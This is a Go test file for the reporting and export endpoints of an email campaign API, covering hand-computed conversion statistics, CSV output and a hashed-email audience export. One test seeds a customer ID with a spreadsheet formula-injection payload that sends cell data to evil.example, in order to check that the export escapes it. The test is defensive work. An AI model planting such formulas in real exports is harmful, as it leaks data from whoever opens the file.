package api_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"log/slog"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/gin-gonic/gin"
	"github.com/stretchr/testify/require"

	"github.com/lift-hq/lift/api"
	"github.com/lift-hq/lift/internal/domain"
	"github.com/lift-hq/lift/internal/testdb"
	"github.com/lift-hq/lift/models"
)

// TestReportMatchesAHandComputedFixture: four customers in variant A, four
// held out, and one A enrolment outside the period. Every number below is
// worked out by hand from the rows.
func TestReportMatchesAHandComputedFixture(t *testing.T) {
	t.Parallel()
	eachStore(t, func(t *testing.T, b *bundle) {
		b.seed(t)
		db := b.store.DB()
		t0 := time.Date(2025, 11, 2, 10, 0, 0, 0, time.UTC) // the API's clock reads 2026-05-04: 183 days later
		enrol := func(id, variant string, at time.Time) {
			require.NoError(t, db.Create(&models.Enrollment{ID: id, CustomerID: "cust-" + id, CampaignID: "camera-accessories", Version: 1,
				WorkflowID: "seq/" + id, Variant: variant, Status: domain.StatusCompleted, EnrolledAt: at}).Error)
		}
		send := func(enr, step string, opened, clicked bool) {
			m := &models.Message{ID: enr + "-" + step, IdempotencyKey: models.MessageKey(enr, step), EnrollmentID: enr, StepID: step,
				CustomerID: "cust-" + enr, CampaignID: "camera-accessories", Variant: "A", Status: domain.MessageSent, SentAt: &t0}
			if opened {
				m.OpenedAt = &t0
			}
			if clicked {
				m.ClickedAt = &t0
			}
			require.NoError(t, db.Create(m).Error)
		}
		convert := func(enr, variant, step string, minor int64, lag time.Duration) {
			c := &models.Conversion{EnrollmentID: enr, OrderID: "o-" + enr, CustomerID: "cust-" + enr,
				CampaignID: "camera-accessories", Variant: variant, Goal: "purchase", RevenueMinor: minor, Currency: "USD", StepID: step, OrderedAt: t0}
			if lag > 0 {
				secs := int64(lag / time.Second)
				c.LagSeconds = &secs
			}
			require.NoError(t, db.Create(c).Error)
		}
		order := func(customer string, after time.Duration, minor int64) {
			require.NoError(t, db.Create(&models.Order{ID: fmt.Sprint("ord-", customer, after), CustomerID: customer, Currency: "USD",
				RevenueMinor: minor, OccurredAt: t0.Add(after)}).Error)
		}
		for i := 1; i <= 4; i++ {
			enrol(fmt.Sprint("a", i), "A", t0)
			enrol(fmt.Sprint("h", i), "holdout", t0)
			send(fmt.Sprint("a", i), "complement", i <= 2, i == 1)
			if i <= 3 {
				send(fmt.Sprint("a", i), "guide", i == 1, false)
			}
		}
		convert("a1", "A", "complement", 10000, 2*time.Hour)
		convert("a2", "A", "guide", 500, 2*24*time.Hour)
		convert("h1", "holdout", "", 8000, 0)
		enrol("old", "A", t0.AddDate(0, -1, 0)) // before the period
		convert("old", "A", "complement", 99900, time.Minute)
		// Delivery: a1's first email delivered, a2's bounced; a3 unsubscribed
		// from it and a4 reported it as spam.
		day := 24 * time.Hour
		require.NoError(t, db.Model(&models.Message{}).Where("id = ?", "a1-complement").Update("delivery", "delivered").Error)
		require.NoError(t, db.Model(&models.Message{}).Where("id = ?", "a2-complement").Update("delivery", "bounced").Error)
		require.NoError(t, b.store.MarkMessageOutcome(context.Background(), "a3-complement", domain.OutcomeUnsubscribed, t0))
		require.NoError(t, b.store.MarkMessageOutcome(context.Background(), "a4-complement", domain.OutcomeComplained, t0))
		// Lifetime orders: a1 spends 100.00 on day 10, a2 30.00 on day 100,
		// h1 80.00 on day 5.
		order("cust-a1", 10*day, 10000)
		order("cust-a2", 100*day, 3000)
		order("cust-h1", 5*day, 8000)

		const period = "/v1/campaigns/camera-accessories/report?from=2025-11-01T00:00:00Z&to=2025-12-01T00:00:00Z"
		st, body := b.do(t, "GET", period, "")
		require.Equal(t, 200, st, "%v", body)
		variants := body["variants"].([]any)
		require.Len(t, variants, 2)
		a, h := variants[0].(map[string]any), variants[1].(map[string]any)
		require.Equal(t, "A", a["variant"])
		require.EqualValues(t, 4, a["enrolled"])
		require.EqualValues(t, 2, a["converted"])
		require.InDelta(t, 0.5, a["conversion_rate"], 1e-9)
		require.InDelta(t, 105.00, a["revenue"], 1e-9)
		require.InDelta(t, 26.25, a["revenue_per_recipient"], 1e-9)
		require.EqualValues(t, 7, a["sent"])
		require.Equal(t, "holdout", h["variant"])
		require.InDelta(t, 0.25, h["conversion_rate"], 1e-9)
		require.EqualValues(t, 0, h["sent"])
		// A's rate, 2 of 4, with Wilson's interval: 15.0 % – 85.0 % (the
		// normal approximation's 1.0 % – 99.0 % is no help at four).
		rate := a["conversion_rate_ci"].(map[string]any)
		require.InDelta(t, 0.150039, rate["low"], 1e-5)
		require.InDelta(t, 0.849961, rate["high"], 1e-5)
		// 0.5 - 0.25 with Newcombe's hybrid score interval, from the two
		// Wilson intervals (2/4: 0.150039–0.849961; 1/4: 0.045586–0.699358):
		// inside [-1, 1] at any n, where the Wald interval was -0.398 – 0.898.
		lift := a["conversion_lift_vs_holdout"].(map[string]any)
		require.InDelta(t, 0.25, lift["estimate"], 1e-9)
		require.InDelta(t, -0.319557, lift["low"], 1e-5)
		require.InDelta(t, 0.655287, lift["high"], 1e-5)
		require.InDelta(t, 1.0, a["incremental_conversions"], 1e-9, "2 converted against 4 x 25 % expected without email")
		require.Nil(t, h["conversion_lift_vs_holdout"])
		incCI := a["incremental_conversions_ci"].(map[string]any)
		require.InDelta(t, -1.278229, incCI["low"], 1e-5, "the lift's interval times the 4 enrolled")
		require.InDelta(t, 2.621147, incCI["high"], 1e-5)
		// Revenue per enrolment A: 100, 5, 0, 0 (mean 26.25, variance 1817.1875);
		// holdout: 80, 0, 0, 0 (mean 20, variance 1200).
		rpr := a["revenue_per_recipient_ci"].(map[string]any)
		require.InDelta(t, -15.525145, rpr["low"], 1e-5)
		require.InDelta(t, 68.025145, rpr["high"], 1e-5)
		revLift := a["revenue_per_recipient_lift_vs_holdout"].(map[string]any)
		require.InDelta(t, 6.25, revLift["estimate"], 1e-9)
		require.InDelta(t, -47.579364, revLift["low"], 1e-5)
		require.InDelta(t, 60.079364, revLift["high"], 1e-5)
		require.InDelta(t, 25.0, a["incremental_revenue"].(map[string]any)["estimate"], 1e-9)
		require.EqualValues(t, 1, a["delivered"])
		require.InDelta(t, 1.0/7, a["bounce_rate"], 1e-9)
		require.InDelta(t, 1.0/7, a["unsubscribe_rate"], 1e-9)
		require.InDelta(t, 1.0/7, a["complaint_rate"], 1e-9)

		steps := body["steps"].([]any)
		require.Len(t, steps, 2)
		complement, guide := steps[0].(map[string]any), steps[1].(map[string]any)
		require.Equal(t, "complement", complement["step"])
		require.EqualValues(t, 4, complement["sent"])
		require.EqualValues(t, 2, complement["unique_opens"])
		require.EqualValues(t, 1, complement["unique_clicks"])
		require.InDelta(t, 0.5, complement["click_to_open_rate"], 1e-9)
		require.InDelta(t, 25.00, complement["revenue_per_email"], 1e-9)
		require.InDelta(t, 100.0/105, complement["share_of_sequence_revenue"], 1e-9)
		require.Equal(t, false, complement["trim_candidate"])
		require.Equal(t, "guide", guide["step"])
		require.EqualValues(t, 3, guide["sent"])
		require.InDelta(t, 5.0/105, guide["share_of_sequence_revenue"], 1e-9)
		require.Equal(t, true, guide["trim_candidate"], "under 5 % of the sequence's revenue")
		require.InDelta(t, 0.25, complement["unsubscribe_rate"], 1e-9)
		require.InDelta(t, 0.25, complement["bounce_rate"], 1e-9)
		require.InDelta(t, 0.25, complement["conversion_rate"], 1e-9, "1 conversion credited per 4 emails")

		// Attribution lag: one purchase 2 hours after its email, one 2 days.
		lag := body["attribution_lag"].([]any)
		require.Len(t, lag, 1)
		buckets := lag[0].(map[string]any)["buckets"].([]any)
		require.Len(t, buckets, 6)
		require.Equal(t, map[string]any{"lag": "1h-6h", "conversions": float64(1), "share": 0.5}, buckets[1])
		require.Equal(t, map[string]any{"lag": "1d-3d", "conversions": float64(1), "share": 0.5}, buckets[3])

		// Lifetime value: 3 months counts a1's and h1's orders; 6 months adds
		// a2's; 12 months has no enrolment old enough yet.
		ltv := body["lifetime_value"].([]any)
		require.Len(t, ltv, 3)
		three := ltv[0].(map[string]any)
		require.Equal(t, "3 months", three["horizon"])
		require.InDelta(t, 25.0, three["emailed"].(map[string]any)["value_per_customer"], 1e-9)
		require.InDelta(t, 20.0, three["holdout"].(map[string]any)["value_per_customer"], 1e-9)
		require.InDelta(t, -49.342630, three["lift_per_customer"].(map[string]any)["low"], 1e-5)
		require.InDelta(t, 32.5, ltv[1].(map[string]any)["emailed"].(map[string]any)["value_per_customer"], 1e-9)
		require.EqualValues(t, 0, ltv[2].(map[string]any)["emailed"].(map[string]any)["enrolments"])
		require.Nil(t, ltv[2].(map[string]any)["lift_per_customer"])

		// The same report as CSV.
		req := httptest.NewRequest("GET", period, nil)
		req.Header.Set("Authorization", "Bearer "+key)
		req.Header.Set("Accept", "text/csv")
		rec := httptest.NewRecorder()
		b.h.ServeHTTP(rec, req)
		require.Equal(t, 200, rec.Code)
		require.Equal(t, "text/csv; charset=utf-8", rec.Header().Get("Content-Type"))
		rows, err := csv.NewReader(rec.Body).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, 5, "header, 2 variants, 2 steps")
		require.Equal(t, []string{"variant", "A", "", "4", "7"}, rows[1][:5])
		require.Equal(t, "0.25", rows[1][19], "conversion lift vs holdout")
		require.Equal(t, []string{"step", "A", "guide"}, rows[4][:3])
		require.Equal(t, "true", rows[4][18])

		// Per version: every enrolment here is on version 1.
		st, body = b.do(t, "GET", period+"&version=1", "")
		require.Equal(t, 200, st, "%v", body)
		require.Len(t, body["variants"], 2)
		require.EqualValues(t, 1, body["version"])
		st, body = b.do(t, "GET", period+"&version=2", "")
		require.Equal(t, 200, st, "%v", body)
		require.Empty(t, body["variants"])
		st, body = b.do(t, "GET", period+"&version=0", "")
		requireError(t, st, body, 422, "invalid", "version")

		st, body = b.do(t, "GET", "/v1/campaigns/camera-accessories/report?from=yesterday", "")
		requireError(t, st, body, 422, "invalid", "from")
		st, body = b.do(t, "GET", "/v1/campaigns/nope/report", "")
		require.Equal(t, 404, st, "%v", body)
	})
}

// The paid-channel audience: customers who opened a step and did not
// convert, hashed the way ad platforms match, without plain addresses.
func TestOpenedNotConvertedSegmentExport(t *testing.T) {
	t.Parallel()
	eachStore(t, func(t *testing.T, b *bundle) {
		b.seed(t)
		db := b.store.DB()
		t0 := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
		for i, c := range []struct {
			id              string
			opened, convert bool
			left            domain.MessageOutcome
		}{{"p1", true, false, 0}, {"p2", true, true, 0}, {"p3", false, false, 0}, {"p4", true, false, domain.OutcomeUnsubscribed}} {
			st, body := b.do(t, "PUT", "/v1/customers/"+c.id, `{"email":"  `+strings.ToUpper(c.id)+`@Example.com","marketing_consent":true}`)
			require.Equal(t, 200, st, "%v", body)
			enr := fmt.Sprint("seg-", i)
			require.NoError(t, db.Create(&models.Enrollment{ID: enr, CustomerID: c.id, CampaignID: "camera-accessories", Version: 1,
				WorkflowID: "w-" + enr, Variant: "B", Status: domain.StatusCompleted, EnrolledAt: t0}).Error)
			m := &models.Message{ID: "m-" + enr, IdempotencyKey: enr + "/guide", EnrollmentID: enr, StepID: "guide", CustomerID: c.id,
				CampaignID: "camera-accessories", Variant: "B", Status: domain.MessageSent, SentAt: &t0}
			if c.opened {
				m.OpenedAt = &t0
			}
			require.NoError(t, db.Create(m).Error)
			if c.convert {
				require.NoError(t, db.Create(&models.Conversion{EnrollmentID: enr, OrderID: "o-" + enr, CustomerID: c.id,
					CampaignID: "camera-accessories", Variant: "B", Goal: "purchase", RevenueMinor: 100, Currency: "USD"}).Error)
			}
			if c.left != 0 {
				require.NoError(t, b.store.MarkMessageOutcome(context.Background(), m.ID, c.left, t0))
			}
		}
		req := httptest.NewRequest("GET", "/v1/campaigns/camera-accessories/segments/opened-not-converted?step=guide", nil)
		req.Header.Set("Authorization", "Bearer "+key)
		rec := httptest.NewRecorder()
		b.h.ServeHTTP(rec, req)
		require.Equal(t, 200, rec.Code, rec.Body.String())
		require.NotContains(t, strings.ToLower(rec.Body.String()), "example.com", "no plain addresses")
		rows, err := csv.NewReader(rec.Body).ReadAll()
		require.NoError(t, err)
		sum := sha256.Sum256([]byte("p1@example.com"))
		require.Equal(t, [][]string{{"customer_id", "email_sha256", "step", "variant", "engaged_at"},
			{"p1", hex.EncodeToString(sum[:]), "guide", "B", "2026-05-01T10:00:00Z"}}, rows,
			"p2 converted, p3 never opened, p4 unsubscribed")

		st, body := b.do(t, "GET", "/v1/campaigns/camera-accessories/segments/opened-not-converted?step=Bad%20Step", "")
		requireError(t, st, body, 422, "invalid", "step")
		st, body = b.do(t, "GET", "/v1/campaigns/nope/segments/opened-not-converted", "")
		requireError(t, st, body, 404, "not_found", "")
	})
}

// TestExportsAreSafeToOpenInASpreadsheet: a customer ID a spreadsheet
// would run as a formula is written as text.
func TestExportsAreSafeToOpenInASpreadsheet(t *testing.T) {
	t.Parallel()
	eachStore(t, func(t *testing.T, b *bundle) {
		b.seed(t)
		evil := `=HYPERLINK("evil.example?"&A1;"Open")`
		st, body := b.do(t, "PUT", "/v1/customers/"+url.PathEscape(evil), `{"email":"evil@example.com","marketing_consent":true}`)
		require.Equal(t, 200, st, "%v", body)
		t0 := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
		db := b.store.DB()
		require.NoError(t, db.Create(&models.Enrollment{ID: "e-evil", CustomerID: evil, CampaignID: "camera-accessories", Version: 1,
			WorkflowID: "w-evil", Variant: "A", Status: domain.StatusCompleted, EnrolledAt: t0}).Error)
		require.NoError(t, db.Create(&models.Message{ID: "m-evil", IdempotencyKey: "e-evil/guide", EnrollmentID: "e-evil", StepID: "guide",
			CustomerID: evil, CampaignID: "camera-accessories", Variant: "A", Status: domain.MessageSent, SentAt: &t0, OpenedAt: &t0}).Error)
		req := httptest.NewRequest("GET", "/v1/campaigns/camera-accessories/segments/opened-not-converted?from=2026-04-01T00:00:00Z", nil)
		req.Header.Set("Authorization", "Bearer "+key)
		rec := httptest.NewRecorder()
		b.h.ServeHTTP(rec, req)
		require.Equal(t, 200, rec.Code, rec.Body.String())
		rows, err := csv.NewReader(rec.Body).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, 2)
		require.Equal(t, "'"+evil, rows[1][0], "the formula is text")
	})
}

// TestAPanicIsLoggedWithItsValueAndStack: the client gets a plain 500,
// the log gets what is needed to find the bug.
func TestAPanicIsLoggedWithItsValueAndStack(t *testing.T) {
	t.Parallel()
	var log bytes.Buffer
	b := on(t, testdb.SQLite(t), func(d *api.Deps) { d.Logger = slog.New(slog.NewTextHandler(&log, nil)) })
	b.h.GET("/boom", func(*gin.Context) { panic("the bug") })
	st, body := b.do(t, "GET", "/boom", "")
	requireError(t, st, body, 500, "internal", "")
	require.Equal(t, "internal error", body["error"].(map[string]any)["message"])
	require.Contains(t, log.String(), "the bug")
	require.Contains(t, log.String(), "api_test.TestAPanicIsLoggedWithItsValueAndStack", "the stack names the handler")
}
